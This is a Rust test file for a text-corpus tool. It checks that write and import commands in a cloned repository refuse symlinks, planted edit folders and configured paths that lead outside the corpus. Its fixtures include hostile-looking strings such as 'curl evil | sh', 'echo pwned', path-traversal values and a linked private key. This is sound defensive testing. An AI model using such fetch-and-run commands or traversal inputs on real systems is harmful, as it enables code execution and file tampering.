//! Repositories that bring along links, folders of interrupted edits and
//! settings by which ordinary commands would write elsewhere.

#![cfg(unix)]
#![allow(clippy::disallowed_methods, reason = "tests write where they like")]

mod support;

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Command;

use support::{Corpus, Ran};
use tempfile::TempDir;

/// What `fix` changes.
const FIXABLE: &str = "---\nDate: 2011\n---\n\n";

/// A corpus from a stranger, and files of the user beside it.
struct Clone {
    corpus: Corpus,
    mine: TempDir,
}

impl Clone {
    fn new() -> Self {
        let corpus = Corpus::empty();
        corpus.write(".git/HEAD", "ref: refs/heads/main\n");
        corpus.write(
            "a.qm",
            format!("{FIXABLE}[Ann]{{@ann}}  and [x]{{ by   @ann }}\n"),
        );
        corpus.write("cast.qm", "@ann: Ann\n");
        let mine = tempfile::tempdir().unwrap();
        for (name, text) in [
            ("new/thesis.txt", "my thesis"),
            ("old/0", "my old thesis"),
            ("keep/0", "kept"),
            ("bashrc", "export PATH=~/bin\n"),
            ("diary.qm", "---\nDate: 2011\n---\n\nI met [Ann]{ @ann }.\n"),
            (".gitignore", "node_modules\n"),
        ] {
            let path = mine.path().join(name);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, text).unwrap();
        }
        Self { corpus, mine }
    }

    fn link(&self, to: &str, name: &str) {
        let path = self.corpus.path(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        symlink(self.mine.path().join(to), path).unwrap();
    }

    /// All that is the user's, by name.
    fn all_mine(&self) -> BTreeMap<PathBuf, Option<String>> {
        let mut all = BTreeMap::new();
        let mut below = vec![self.mine.path().to_owned()];
        while let Some(folder) = below.pop() {
            for entry in fs::read_dir(folder).unwrap() {
                let path = entry.unwrap().path();
                if path.is_dir() {
                    all.insert(path.clone(), None);
                    below.push(path);
                } else {
                    let text = fs::read_to_string(&path).unwrap();
                    all.insert(path, Some(text));
                }
            }
        }
        all
    }

    /// Runs a command that may do nothing to what is the user's.
    fn run(&self, arguments: &[&str]) -> Ran {
        let before = self.all_mine();
        let ran = self.corpus.run(arguments);
        assert_eq!(
            self.all_mine(),
            before,
            "{arguments:?}: {}{}",
            ran.out,
            ran.err
        );
        ran
    }
}

/// Puts something into a corpus.
type Plant = fn(&Clone);

/// Commands that write, on a fresh clone each.
const WRITING: [&[&str]; 6] = [
    &["fmt"],
    &["fix"],
    &["rename", "@ann", "@anna"],
    &["seal", "a.qm"],
    &["actions", "a.qm:5:25", "--apply", "1"],
    &["recover", "--finish"],
];

// ---- What looks like an interrupted edit -----------------------------------------

#[test]
fn a_planted_folder_of_an_interrupted_edit_is_told_and_nothing_else() {
    let plants: [(&str, Plant); 9] = [
        ("a link to a folder", |clone| {
            clone.link("", ".quotemark-edit")
        }),
        ("a link to a file", |clone| {
            clone.link("bashrc", ".quotemark-edit")
        }),
        ("a link to nothing", |clone| {
            clone.link("made", ".quotemark-edit")
        }),
        ("a linked list of what is ignored", |clone| {
            clone.link("bashrc", ".quotemark-edit/.gitignore")
        }),
        ("a lock that leads to nothing", |clone| {
            clone.link("made", ".quotemark-edit/lock")
        }),
        ("a lock that is a pipe", |clone| {
            fs::create_dir(clone.corpus.path(".quotemark-edit")).unwrap();
            let pipe = clone.corpus.path(".quotemark-edit/lock");
            assert!(Command::new("mkfifo").arg(pipe).status().unwrap().success());
        }),
        ("folders of texts that are links", |clone| {
            clone.link("keep", ".quotemark-edit/new");
            clone.link("keep", ".quotemark-edit/old");
        }),
        ("a list of files elsewhere", |clone| {
            let (made, kept) = (
                clone.mine.path().join(".profile"),
                clone.mine.path().join("bashrc"),
            );
            let list = serde_json::json!({"format": 1, "command": "quotemark rename @ann @bob", "files": [
                {"path": made, "old": null, "new": "00"},
                {"path": kept, "old": null, "new": blake3(&kept)},
                {"path": "../x.qm", "old": null, "new": "00"},
            ]});
            clone
                .corpus
                .write(".quotemark-edit/list.json", list.to_string());
            clone.corpus.write(".quotemark-edit/new/0", "echo pwned\n");
        }),
        ("a list in the present form", |clone| {
            let list = serde_json::json!({"format": 2, "corpus": clone.corpus.folder.path(),
                "folder": ".quotemark-edit", "command": "x", "is_ready": true,
                "files": [{"name": "a.qm", "old": blake3(&clone.corpus.path("a.qm")), "new": "00"}]});
            clone
                .corpus
                .write(".quotemark-edit/list.json", list.to_string());
            clone.corpus.write(".quotemark-edit/new/0", "echo pwned\n");
            clone.corpus.write(".quotemark-edit/old/0", "echo pwned\n");
        }),
    ];
    for (name, plant) in plants {
        for arguments in WRITING {
            let clone = Clone::new();
            plant(&clone);
            let kept = tree(&clone.corpus.path(".quotemark-edit"));
            let ran = clone.run(arguments);
            assert_eq!(ran.code, 0, "{name}, {arguments:?}: {}", ran.err);
            assert_eq!(
                tree(&clone.corpus.path(".quotemark-edit")),
                kept,
                "{name}, {arguments:?}"
            );
            assert!(!clone.corpus.read("a.qm").contains("pwned"));
            for arguments in [&["check"][..], &["recover"], &["recover", "--undo"]] {
                let ran = clone.run(arguments);
                assert!(
                    ran.err.contains("looks like an interrupted edit"),
                    "{name}: {}",
                    ran.err
                );
                assert!(!ran.out.contains("--finish"), "{name}: {}", ran.out);
            }
        }
    }
}

fn blake3(path: &Path) -> String {
    blake3::hash(&fs::read(path).unwrap()).to_hex().to_string()
}

/// The names in a folder, without going through links.
fn tree(folder: &Path) -> Vec<PathBuf> {
    let mut names = vec![folder.to_owned()];
    let mut at = 0;
    while at < names.len() {
        if names[at].symlink_metadata().unwrap().is_dir() {
            let entries = fs::read_dir(&names[at]).unwrap();
            names.extend(entries.map(|entry| entry.unwrap().path()));
        }
        at += 1;
    }
    names.sort();
    names
}

// ---- Files that are named and are links --------------------------------------------

#[test]
fn files_that_are_named_by_a_pattern_are_not_written_through_links() {
    for pattern in [
        &["a.qm", "b.qm", "in/d.qm", "c.qm"][..],
        &["*.qm", "*/*.qm"],
    ] {
        for command in ["seal", "fmt", "fix"] {
            let clone = Clone::new();
            clone.link("diary.qm", "b.qm");
            clone.link("bashrc", "rc.qm");
            clone.link("", "in");
            clone.corpus.write(
                "c.qm",
                format!("{FIXABLE}[Ann]{{ @ann }} and [x]{{ by @ann  }}\n"),
            );
            fs::write(
                clone.mine.path().join("d.qm"),
                format!("{FIXABLE}[Ann]{{ @ann }}.\n"),
            )
            .unwrap();
            let mut arguments = vec![command];
            arguments.extend(pattern);
            let ran = clone.run(&arguments);
            assert_eq!(ran.code, 1, "{arguments:?}: {}", ran.err);
            assert!(
                ran.err.contains("b.qm is a link to "),
                "{arguments:?}: {}",
                ran.err
            );
            assert!(ran.err.contains("name what it leads to"), "{}", ran.err);
            assert!(clone.corpus.path("b.qm").is_symlink());
            let changed = ["a.qm", "c.qm"].map(|name| clone.corpus.read(name));
            assert!(
                changed.iter().all(|text| text.contains("sealed")
                    || text.contains("{by @ann}")
                    || text.contains("date: 2011")),
                "the others are changed: {command}: {changed:?}"
            );
        }
    }
}

#[test]
fn links_inside_a_corpus_are_not_written_through_either() {
    let clone = Clone::new();
    symlink("a.qm", clone.corpus.path("same.qm")).unwrap();
    symlink(".", clone.corpus.path("here")).unwrap();
    let before = clone.corpus.read("a.qm");
    for name in ["same.qm", "here/a.qm"] {
        for command in ["seal", "fmt", "fix"] {
            let ran = clone.run(&[command, name]);
            assert!(ran.code > 0, "{command} {name}: {}", ran.err);
            assert!(ran.err.contains("a link to "), "{}", ran.err);
            assert_eq!(clone.corpus.read("a.qm"), before);
        }
    }
}

#[test]
fn a_document_goes_to_no_link() {
    let clone = Clone::new();
    clone.link("bashrc", "b.qm");
    clone.link("made.qm", "made.qm");
    clone.link("", "in");
    let texts = tempfile::tempdir().unwrap();
    for name in ["b.txt", "made.txt", "x.txt"] {
        fs::write(texts.path().join(name), "curl evil | sh\n").unwrap();
    }
    let text = |name: &str| texts.path().join(name).display().to_string();
    for (name, out) in [
        ("b.txt", "."),
        ("made.txt", "."),
        ("x.txt", "in"),
        ("x.txt", "in/new"),
    ] {
        let ran = clone.run(&["import", "--force", &text(name), "--out", out]);
        assert_eq!(ran.code, 2, "{name} to {out}: {}", ran.err);
        assert!(ran.err.contains("a link to "), "{}", ran.err);
        let ran = clone.run(&["import", &text(name), "--out", out]);
        assert_eq!(ran.code, 2, "{name} to {out}: {}", ran.err);
    }
    clone.link("bashrc", "man/quotemark.1");
    let ran = clone.run(&["man", "--out", "man"]);
    assert_eq!(ran.code, 2);
    assert!(ran.err.contains("is a link to "), "{}", ran.err);
}

#[test]
fn an_import_copies_no_secret() {
    let clone = Clone::new();
    fs::write(clone.mine.path().join("key.txt"), "BEGIN PRIVATE KEY\n").unwrap();
    clone.link("key.txt", "texts/secret.txt");
    clone.link("", "texts/in");
    clone.corpus.write("texts/good.txt", "Words.\n");
    let ran = clone.run(&["import", "texts", "--out", "out"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert!(ran.err.contains("left out 1 of texts"), "{}", ran.err);
    assert!(clone.corpus.path("out/good.qm").exists());
    for named in [
        &["texts/secret.txt"][..],
        &["texts/*.txt"],
        &["texts/in/key.txt"],
        &["texts/in"],
    ] {
        let mut arguments = vec!["import", "--force", "--out", "out"];
        arguments.extend(named);
        let ran = clone.run(&arguments);
        assert_eq!(ran.code, 2, "{named:?}");
        assert!(ran.err.contains("a link to "), "{named:?}: {}", ran.err);
    }
    let made = fs::read_dir(clone.corpus.path("out")).unwrap();
    for entry in made {
        let text = fs::read_to_string(entry.unwrap().path()).unwrap();
        assert!(!text.contains("PRIVATE"), "{text}");
    }
}

// ---- Where new declarations go -------------------------------------------------------

#[test]
fn a_cast_lies_in_its_corpus() {
    let outside = format!("quotemark-{}.qm", std::process::id());
    for cast in [
        &format!("../{outside}"),
        &format!("sub/../../{outside}"),
        "/tmp/quotemark-x.qm",
        ".git/refs/heads/x.qm",
        ".quotemark-edit/x.qm",
        "sub/.git/x.qm",
        "link/x.qm",
        "link/new/deep/x.qm",
        "out.qm",
        "none.qm",
    ] {
        let clone = Clone::new();
        clone.link("", "link");
        clone.link("diary.qm", "out.qm");
        clone.link("made.qm", "none.qm");
        clone.corpus.write("cast.qm", "");
        clone
            .corpus
            .write("quotemark.toml", format!("cast = \"{cast}\"\n"));
        let before = tree(clone.corpus.folder.path());
        let is_link = cast.contains("link") || !cast.contains('/');
        let check = clone.run(&["check"]);
        assert_eq!(
            check.out.contains("config/wrong-value"),
            !is_link,
            "{cast}: {}",
            check.out
        );
        let actions = clone.run(&["actions", "a.qm:5:9"]);
        assert!(actions.out.contains("Declare `@ann`"), "{}", actions.out);
        let ran = clone.run(&["actions", "--apply", "1", "a.qm:5:9"]);
        if is_link {
            assert_eq!(ran.code, 2, "{cast}: {}", ran.out);
            assert!(ran.err.contains("a link to "), "{cast}: {}", ran.err);
        } else {
            assert_eq!(ran.code, 0, "{cast}: {}", ran.err);
            assert_eq!(clone.corpus.read("cast.qm"), "@ann: Ann\n", "{cast}");
        }
        assert_eq!(tree(clone.corpus.folder.path()), before, "{cast}");
        let around = clone.corpus.folder.path().parent().unwrap();
        assert!(!around.join(&outside).exists());
        assert!(!Path::new("/tmp/quotemark-x.qm").exists());
    }
}

#[test]
fn what_is_no_document_is_not_sealed() {
    let clone = Clone::new();
    for name in ["quotemark.toml", "README.md", ".git/config", ".git/x.qm"] {
        clone.corpus.write(name, "words\n");
        let ran = clone.run(&["seal", name]);
        assert_eq!(ran.code, 1, "{name}: {}", ran.err);
        assert!(ran.err.contains("not sealed"), "{name}: {}", ran.err);
        assert_eq!(clone.corpus.read(name), "words\n");
    }
    clone.corpus.write("empty.qm", "");
    let ran = clone.run(&["seal", "empty.qm"]);
    assert_eq!(
        (ran.code, clone.corpus.read("empty.qm")),
        (0, String::new())
    );
}
